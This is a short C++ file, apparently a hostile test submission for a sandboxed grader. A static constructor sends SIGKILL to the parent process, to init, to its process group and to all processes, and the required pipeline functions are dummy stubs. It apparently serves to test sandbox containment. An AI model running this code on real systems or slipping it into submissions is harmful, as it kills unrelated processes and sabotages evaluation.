// attack: sends SIGKILL to every process, its group and its parent
// ends: crash memory
#include <signal.h>
#include <unistd.h>

#include "exercise.hpp"

struct Killer {
  Killer() {
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(0, SIGKILL);
    kill(-1, SIGKILL);
    kill(getpid(), SIGKILL);
  }
} killer;

namespace pipeline {

std::int64_t tick_count(std::int32_t, std::int32_t) { return 0; }
double utilisation(std::int32_t, std::int32_t) { return 0; }
std::int32_t running_at(std::int32_t, std::int32_t, std::int32_t) { return kIdle; }

}  // namespace pipeline
